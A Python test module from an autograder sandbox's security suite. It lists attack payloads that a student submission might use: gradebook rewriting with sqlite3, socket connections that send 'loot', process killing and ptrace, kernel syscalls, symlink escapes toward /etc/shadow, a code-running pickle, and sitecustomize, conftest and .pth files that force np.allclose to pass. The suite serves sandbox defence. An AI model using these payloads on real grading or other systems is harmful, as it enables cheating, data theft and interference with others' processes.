"""Attacks that reach for what lies outside: files, gradebook, network, processes, the kernel."""

import os
from pathlib import Path

from nbformat.notebooknode import NotebookNode

from tests.attacks.suite import WRONG, Attack

_GRADEBOOK = """
import sqlite3

try:
    gradebook = sqlite3.connect("file:$COURSE/gradebook.db?mode=rw", uri=True)
    print(gradebook.execute("select source from source_cell").fetchall())
    gradebook.execute("update grade set auto_score = 100, manual_score = 100")
    gradebook.commit()
    print("BREACH")
except sqlite3.Error as error:
    print(error)
"""
_SUBMISSIONS = """
import glob, os

for path in glob.glob("$COURSE/submitted/*/sample/*.ipynb"):
    print("BREACH", open(path).read()[:300])
try:
    os.makedirs("$COURSE/submitted/forged/sample")
    open("$COURSE/submitted/forged/sample/first.ipynb", "w").write("{}")
except OSError as error:
    print(error)
"""
_OWN_SUBMISSION = """
import os

for folder in ("/submission", *{os.path.dirname(path) for path in os.environ.values() if path.startswith("/tmp")}):
    for name in ("second.ipynb", "new.txt"):
        try:
            open(os.path.join(folder, name), "w").write("{}")
            print("BREACH", folder)
        except OSError as error:
            print(error)
    for act in (os.remove, lambda path: os.rename(path, path + "x"), lambda path: os.chmod(path, 0o777)):
        try:
            act(os.path.join(folder, "second.ipynb"))
            print("BREACH", folder)
        except OSError as error:
            print(error)
"""
_WRITE = """
import os, site, sys, tempfile

import numpy, course_utils

places = ["$CANARY", *site.getsitepackages(), os.path.dirname(numpy.__file__), os.path.dirname(course_utils.__file__)]
places += [sys.prefix, os.path.dirname(os.__file__), "/usr", "/etc", "/", "/var/tmp", "/root", "/run", "/dev"]
for place in places:
    path = place if place == "$CANARY" else os.path.join(place, "usercustomize.py")
    try:
        with open(path, "a") as file:
            file.write("written by an attack")
        print("BREACH", path)
        if path != "$CANARY":
            os.remove(path)
    except OSError as error:
        print(error)
"""
_TCP = """
import socket

for address in (("127.0.0.1", $PORT), ("$ADDRESS", $PORT), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=2) as connection:
            connection.sendall(b"loot")
            print("BREACH", address)
    except OSError as error:
        print(error)
"""
_UDP = """
import socket

for address in (("127.0.0.1", $PORT), ("$ADDRESS", $PORT)):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"loot", address)
    except OSError as error:
        print(error)
"""
_UNIX = """
import socket

for address in ("$SOCKET", "\\0$ABSTRACT"):
    try:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address)
        connection.sendall(b"loot")
        print("BREACH", repr(address))
    except OSError as error:
        print(error)
"""
_FAMILIES = """
import socket

for family, kind, protocol in ((16, 3, 0), (17, 3, 0), (40, 1, 0), (38, 5, 0), (2, 3, 1), (31, 3, 0), (29, 3, 1)):
    try:
        socket.socket(family, kind, protocol)
        print("BREACH", family)
    except OSError as error:
        print(error)
"""
_KILL = """
import os, signal

for pid in ($PID, -$PID):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
            print("BREACH", pid)
        except OSError as error:
            print(error)
try:
    os.kill(-1, signal.SIGUSR1)
except OSError as error:
    print(error)
for pid in range(2, 4000):
    try:
        os.kill(pid, 0)
        if os.getpgid(pid) != os.getpgid(0):  # not itself, nor a thread of its own
            print("BREACH", pid)
            break
    except OSError:
        pass
"""
_TRACE = """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, $PID, None, None) == 0:
    print("BREACH ptrace")
print(ctypes.get_errno())
buffer = ctypes.create_string_buffer(8)
local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
remote = (ctypes.c_void_p * 2)(0x400000, 8)
if libc.process_vm_readv($PID, local, 1, remote, 1, 0) > 0:
    print("BREACH process_vm_readv")
print(ctypes.get_errno())
"""
_KERNEL = """
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
tries = {
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "umount": lambda: libc.umount2(b"/tmp", 2),
    "unshare": lambda: libc.unshare(0x10000000 | 0x00020000),
    "setns": lambda: libc.setns(os.open("/proc/self/ns/user", os.O_RDONLY), 0),
    "chroot": lambda: libc.chroot(b"/tmp"),
    "sethostname": lambda: libc.sethostname(b"x", 1),
    "setuid": lambda: libc.setresuid(0, 0, 0),
    "mknod": lambda: libc.mknod(b"/tmp/disk", 0o60666, 0x800),
    "bpf": lambda: libc.syscall(321, 0, 0, 0),
    "io_uring": lambda: libc.syscall(425, 1, ctypes.create_string_buffer(256)),
    "userfaultfd": lambda: libc.syscall(323, 0),
    "memfd": lambda: libc.memfd_create(b"x", 0),
    "shmget": lambda: libc.shmget(0, 4096, 0o1600),
    "keyctl": lambda: libc.syscall(250, 0, -3, 1),
    "clone_newuser": lambda: libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0),
    "clone3": lambda: libc.syscall(435, 0, 0) if ctypes.set_errno(0) is None and ctypes.get_errno() == 38 else -1,
    "prlimit": lambda: libc.syscall(302, os.getppid() or 1, 7, 0, ctypes.create_string_buffer(16)),
    "priority": lambda: libc.setpriority(0, 0, -20),
}
for name, call in tries.items():
    try:
        if call() >= 0:
            print("BREACH", name)
    except OSError as error:
        print(name, error)
"""
_METADATA = """
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for path in ("$CANARY", "$COURSE", "$COURSE/gradebook.db", "$COURSE/autograded"):
    acts = {
        "chmod": lambda: os.chmod(path, 0), "chown": lambda: os.chown(path, os.getuid(), os.getgid()),
        "utime": lambda: os.utime(path, (1, 1)), "setxattr": lambda: os.setxattr(path, "user.attack", b"x"),
        "chmod through a link": lambda: os.chmod(f"/proc/self/fd/{os.open(path, os.O_PATH)}", 0),
        "fchmod": lambda: os.fchmod(os.open(path, os.O_RDONLY), 0),
        "fchmodat2": lambda: libc.syscall(452, os.open(path, os.O_PATH), b"", 0, 0x1000) and 1 / 0,
    }
    for name, act in acts.items():
        try:
            act()
            print("BREACH", name, path)
        except (OSError, ZeroDivisionError) as error:
            print(error)
"""
_DATAGRAMS = """
import socket

for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    try:
        one, _ = socket.socketpair(socket.AF_UNIX, kind)
    except OSError as error:
        print(error)
        continue
    for address in ("$SOCKET", "$DATAGRAMS", "\\0$ABSTRACT"):
        for send in (one.sendto, lambda data, address: one.sendmsg([data], [], 0, address)):
            try:
                send(b"loot", address)
                print("BREACH", address)
            except OSError as error:
                print(error)
"""
_PROCESSORS = """
import os

mine = os.sched_getaffinity(0)
for pid in (0, $PID):
    for act in (lambda: os.sched_setaffinity(pid, set(range(os.cpu_count()))),
                lambda: os.sched_setaffinity(pid, {min(mine)}),
                lambda: os.sched_setscheduler(pid, os.SCHED_BATCH, os.sched_param(0)),
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)):
        try:
            act()
            print("BREACH", pid)
        except OSError as error:
            print(error)
"""
_ENVIRONMENT = """
import os

places = [str(dict(os.environ))]
for name in ("environ", "cmdline"):
    for pid in ("self", os.getppid(), 1):
        try:
            places.append(open(f"/proc/{pid}/{name}").read())
        except OSError as error:
            print(error)
if any("$HOME_OF_THE_INSTRUCTOR" in place for place in places):
    print("BREACH")
"""
_CAPABILITIES = """
import resource

if __import__("os").path.exists("/proc/self/status"):
    for line in open("/proc/self/status"):
        name, _, value = line.partition(":")
        if name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") and int(value, 16):
            print("BREACH", line)
        if (name == "NoNewPrivs" and value.strip() != "1") or (name == "Seccomp" and value.strip() != "2"):
            print("BREACH", line)
for which in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("BREACH", which)
    except (ValueError, OSError) as error:
        print(error)
"""
_LINKS = """
import os

for number, target in enumerate(("/", "/..", "$COURSE", "/proc/1/root", "/proc/self/root/..", "/proc/1/cwd")):
    try:
        os.symlink(target, f"link{number}")
        for inner in ("etc/shadow", "source/sample/first.ipynb", "$COURSE/gradebook.db".lstrip("/"), "root/.bashrc"):
            try:
                print("BREACH", open(f"link{number}/{inner}", "rb").read(40))
            except OSError as error:
                print(error)
    except OSError as error:
        print(error)
for climb in range(1, 20):
    path = "../" * climb + "$COURSE/gradebook.db".lstrip("/")
    try:  # that there is such a name is no secret
        print("BREACH", open(path, "rb").read(40))
    except OSError as error:
        print(error)
"""
_DESCRIPTORS = """
import fcntl, os, socket, stat

for number in range(512):
    try:
        status = os.fstat(number)
    except OSError:
        continue
    if stat.S_ISDIR(status.st_mode) or stat.S_ISREG(status.st_mode) or stat.S_ISBLK(status.st_mode):
        print("BREACH", number, oct(status.st_mode))
    if stat.S_ISCHR(status.st_mode) and os.isatty(number):
        print("BREACH", number)
"""
_PICKLE = """
import pickle

try:
    pickle.load(open("model.pkl", "rb"))
except Exception as error:
    print(error)
"""
_RUNS = "open('$CANARY', 'a').write('written by an attack')\nimport numpy as np\nnp.allclose = lambda *args: True\n"
_EVIL_PICKLE = "cbuiltins\nexec\n(V" + _RUNS.replace("\n", "\\u000a") + "\ntR."
_OTHER_NUMPY = """
import importlib.util, os, sys

here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [entry for entry in sys.path if os.path.abspath(entry or ".") != here]
del sys.modules["numpy"]
import numpy

numpy.allclose = lambda *args, **kwargs: True
sys.modules["numpy"] = numpy
"""


def _link(notebook: NotebookNode, folder: Path, world: dict[str, str]) -> None:
    (folder / "gradebook.txt").symlink_to(f"{world['COURSE']}/gradebook.db")
    (folder / "all").symlink_to(world["COURSE"])


def _linked_notebook(notebook: NotebookNode, folder: Path, world: dict[str, str]) -> None:
    (folder / "second.ipynb").unlink()
    (folder / "second.ipynb").symlink_to(f"{world['COURSE']}/source/sample/second.ipynb")


def _pipe(notebook: NotebookNode, folder: Path, world: dict[str, str]) -> None:
    os.mkfifo(folder / "pipe")


_FILES = {"test-scale": 0.0}
ATTACKS = [
    Attack("gradebook", "rewrites the class's grades with sqlite3", first=_GRADEBOOK, stock="breach"),
    Attack("submissions", "reads the others' submissions and adds one", first=_SUBMISSIONS),
    Attack("own-submission", "changes its own later notebook while the first is graded", first=_OWN_SUBMISSION,
           answers={"total": WRONG["total"]}, honest={"test-total": 0.0}),
    Attack("write", "writes into the installation, the system and a file of the instructor's", first=_WRITE),
    Attack("tcp", "connects to servers on this machine and elsewhere", first=_TCP, stock="breach"),
    Attack("udp", "sends datagrams to this machine", first=_UDP),
    Attack("unix-sockets", "connects to a server by a path and by an abstract name", first=_UNIX, stock="breach"),
    Attack("socket-families", "opens netlink, packet, vsock, crypto, raw and Bluetooth sockets", first=_FAMILIES),
    Attack("kill", "kills a process of the instructor's, and looks for others", first=_KILL),
    Attack("trace", "attaches to a process of the instructor's as a debugger", first=_TRACE),
    Attack("kernel", "mounts, unshares, changes root, user and priority, and uses rarely trodden system calls",
           first=_KERNEL),
    Attack("metadata", "changes who may use files outside, by path and by descriptor", first=_METADATA),
    Attack("datagrams", "sends datagrams to named sockets from a pair of its own", first=_DATAGRAMS, stock="breach"),
    Attack("processors", "takes other processors, and takes processors and priority from others", first=_PROCESSORS),
    Attack("home-folder", "looks for the instructor's home folder in its environment and where /proc shows one",
           first=_ENVIRONMENT),
    Attack("capabilities", "looks for capabilities and raises its limits", first=_CAPABILITIES, stock="breach"),
    Attack("links", "follows links of its own, and the parents of its folder, out of the cage", first=_LINKS),
    Attack("descriptors", "looks for inherited file descriptors", first=_DESCRIPTORS),
    Attack("submitted-links", "hands in links to the gradebook and the course's folder",
           first="for path in ('gradebook.txt', 'all/gradebook.db', '/submission/gradebook.txt'):\n    try:\n"
                 "        print('BREACH', open(path, 'rb').read(99))\n    except OSError as error:\n"
                 "        print(error)\n",
           alter=_link, trouble="is a link"),
    Attack("linked-notebook", "hands in a link to the instructor's solution in place of a notebook",
           alter=_linked_notebook, honest={"test-total": 0.0}, trouble="is a link"),
    Attack("pipe", "hands in a pipe, at which a reader would wait for ever", alter=_pipe, trouble="not a plain file"),
    Attack("pickle", "hands in a pickle that runs code when it is loaded", first=_PICKLE,
           files={"model.pkl": _EVIL_PICKLE}, answers={"scale": WRONG["scale"]}, honest=_FILES, stock="points"),
    Attack("other-numpy", "hands in a module of NumPy's name", files={"numpy.py": _OTHER_NUMPY},
           answers={"scale": "def scale(x, factor):\n    return x + 99.0"}, honest=_FILES),
    Attack("start-up-files", "hands in files that Python runs when it starts",
           files={"sitecustomize.py": _RUNS, "usercustomize.py": _RUNS, "evil.pth": f"import os; exec({_RUNS!r})"},
           answers={"scale": WRONG["scale"]}, honest=_FILES),
    Attack("configuration", "hands in configuration files of nbgrader, IPython, Jupyter and pytest",
           files={"nbgrader_config.py": _RUNS, "ipython_config.py": _RUNS, "jupyter_config.py": _RUNS,
                  "conftest.py": _RUNS, ".ipython/profile_default/startup/00.py": _RUNS},
           answers={"scale": WRONG["scale"]}, honest=_FILES),
]  # fmt: skip
